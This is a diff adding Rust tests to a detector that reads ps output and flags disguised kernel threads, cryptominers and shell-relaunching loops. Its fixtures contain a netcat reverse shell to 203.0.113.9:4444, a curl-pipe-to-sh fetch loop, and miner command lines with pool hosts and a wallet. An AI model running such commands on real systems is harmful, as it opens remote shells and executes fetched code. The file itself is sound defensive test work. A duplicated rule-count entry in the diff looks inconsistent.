@@ -1,6 +1,7 @@
 //! Table tests of the tree and the lineage rules on captures as ps prints them.
 
 use super::*;
+use crate::cmdline;
 use crate::ingest::top::tests::parse_bytes;
 use crate::model::Severity;
 
@@ -145,6 +146,7 @@ root          45  0.0  0.0      0     0 ?        Z    14:08   0:00 [sh] <defunct
             ("proc.exec.hidden-dir", 3),
             ("proc.exec.writable-dir", 3),
             ("proc.interactive-shell", 5),
+            ("proc.kthread-lookalike", 3),
             ("proc.kthread-lookalike", 6),
             ("proc.miner", 3),
             ("proc.miner.cpu", 4),
@@ -194,4 +196,111 @@ root       84500   84010  0 14:06 ?        00:00:00 python3 -m http.server 8000
         cmdline::tty_upgrade("socat tcp:10.0.0.5:4444 exec:'bash -li',pty,stderr,setsid"),
         Some("socat with a pty")
     );
+}
+
+#[test]
+fn kernel_thread_disguises_one_finding_each() {
+    let text = r"UID          PID    PPID  C STIME TTY          TIME CMD
+root           2       0  0 09:00 ?        00:00:00 [kthreadd]
+root          31       2  0 09:00 ?        00:00:00 [kworker/0:1-events]
+root       84010    4000  3 14:00 ?        00:05:10 /usr/bin/java -jar /app/app.jar
+root       84500   84010 99 14:05 ?        01:00:00 [kworker/0:1] -o pool.example.net:3333 -u x -p x
+root       84501   84010  0 14:05 ?        00:00:00 [ksoftirqd/0]
+root       84502   84501  0 14:05 ?        00:00:00 [kthreadd]
+root       84503   84010  0 14:06 ?        00:00:00 /tmp/.x/kswapd0
+root       84504   84010  0 14:06 ?        00:00:00 [sh] <defunct>
+";
+    let (_, t, f) = run(text);
+    let disguised: Vec<(u32, &str)> = f
+        .iter()
+        .filter(|f| f.rule == "proc.kthread-lookalike")
+        .map(|f| {
+            (
+                f.subject.as_deref().unwrap_or("").split(' ').nth(1).unwrap_or("").parse().unwrap_or(0),
+                f.summary.as_str(),
+            )
+        })
+        .collect();
+    let pids: Vec<u32> = disguised.iter().map(|d| d.0).collect();
+    assert_eq!(pids, [84500, 84501, 84502, 84503], "{f:#?}");
+    let sum = |pid: u32| disguised.iter().find(|d| d.0 == pid).map(|d| d.1).unwrap_or("");
+    assert!(
+        sum(84500).contains("named [kworker/0:1] but has arguments (-o pool.example.net:3333 -u x -p x)"),
+        "{}",
+        sum(84500)
+    );
+    assert!(
+        sum(84500).contains("parent java (84010) is a user-space process, not kthreadd"),
+        "{}",
+        sum(84500)
+    );
+    assert!(sum(84502).contains("parent ksoftirqd/0 (84501) is a user-space process"), "{}", sum(84502));
+    assert!(sum(84503).contains("runs the program file /tmp/.x/kswapd0"), "{}", sum(84503));
+    let k = f.iter().find(|f| f.rule == "proc.kthread-lookalike").unwrap();
+    assert_eq!((k.severity, k.attack.as_deref()), (Severity::High, Some("T1036.004,T1036.005")));
+    // The disguised miner is a miner by its arguments, its pool an indicator.
+    let m = f.iter().find(|f| f.rule == "proc.miner").expect("miner");
+    assert!(m.summary.contains("pool pool.example.net:3333"), "{}", m.summary);
+    let iocs: Vec<(&str, &str)> = m.iocs.iter().map(|i| (i.value.as_str(), i.role)).collect();
+    assert_eq!(iocs, [("pool.example.net", "mining-pool"), ("3333", "mining-pool")]);
+    let (c, _, _) = run(text);
+    assert_eq!(c.processes.iter().find(|p| p.pid == 84500).map(|p| p.exe.as_str()), Some("kworker/0:1"));
+    assert!(t
+        .nodes
+        .iter()
+        .find(|n| n.pid == 84500)
+        .is_some_and(|n| n.flags.contains(&"proc.kthread-lookalike".to_string())));
+}
+
+#[test]
+fn miners_by_arguments_whatever_their_name() {
+    let wallet =
+        "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";
+    let text = format!(
+        r"  PID  PPID USER     COMMAND
+    1     0 root     /bin/sh /entrypoint.sh
+   40     1 www-data ./.x -o 198.51.100.9:443 -u {wallet} -p x
+   41     1 www-data /usr/local/bin/php-worker --url=stratum+tcp://pool.example.org:4444 --donate-level 1
+   42     1 root     ssh -o StrictHostKeyChecking=no -p 2222 backup@db.example
+"
+    );
+    let (_, _, f) = run(&text);
+    let miners: Vec<&Finding> = f.iter().filter(|f| f.rule == "proc.miner").collect();
+    assert_eq!(miners.len(), 2, "{f:#?}");
+    assert!(miners.iter().any(|m| m.summary.contains("wallet 48edfH…GUicoD (Monero)")));
+    let pools: Vec<String> = miners
+        .iter()
+        .flat_map(|m| m.iocs.iter().map(|i| format!("{:?}:{}:{}", i.kind, i.value, i.role)))
+        .collect();
+    assert!(pools.contains(&"Ip:198.51.100.9:mining-pool".to_string()), "{pools:?}");
+    assert!(pools.contains(&"Port:443:mining-pool".to_string()), "{pools:?}");
+    assert!(pools.contains(&"Domain:pool.example.org:mining-pool".to_string()), "{pools:?}");
+}
+
+#[test]
+fn loops_relaunching_shells_and_callback_indicators() {
+    let text = r"  PID  PPID USER     COMMAND
+    1     0 root     httpd -f -p 8080
+   50     1 root     sh -c while :; do nc 203.0.113.9 4444 -e /bin/sh; sleep 60; done
+   51    50 root     nc 203.0.113.9 4444 -e /bin/sh
+   60     1 root     watch -n 300 curl -fsSL http://203.0.113.9:8000/k.sh | sh
+";
+    let (_, _, f) = run(text);
+    let loops: Vec<&Finding> = f.iter().filter(|f| f.rule == "proc.persistence.loop").collect();
+    assert_eq!(loops.len(), 2, "{f:#?}");
+    let nc = loops.iter().find(|l| l.summary.contains("sh (50)")).expect("the sh loop");
+    assert!(
+        nc.summary
+            .contains("`while :` loop relaunches a reverse shell, callback 203.0.113.9:4444 (netcat -e)"),
+        "{}",
+        nc.summary
+    );
+    assert_eq!((nc.severity, nc.category.as_str()), (Severity::Critical, "persistence"));
+    let iocs: Vec<(&str, &str)> = nc.iocs.iter().map(|i| (i.value.as_str(), i.role)).collect();
+    assert_eq!(iocs, [("203.0.113.9", "callback"), ("4444", "callback")]);
+    let w = loops.iter().find(|l| l.summary.contains("watch -n 300")).expect("the watch loop");
+    assert_eq!(w.iocs.first().map(|i| i.value.as_str()), Some("http://203.0.113.9:8000/k.sh"));
+    // The reverse shells of the loop and of its nc child carry their callback too.
+    let rev = f.iter().find(|f| f.rule == "proc.revshell").expect("revshell");
+    assert!(rev.iocs.iter().any(|i| i.value == "203.0.113.9" && i.role == "callback"), "{:?}", rev.iocs);
 }
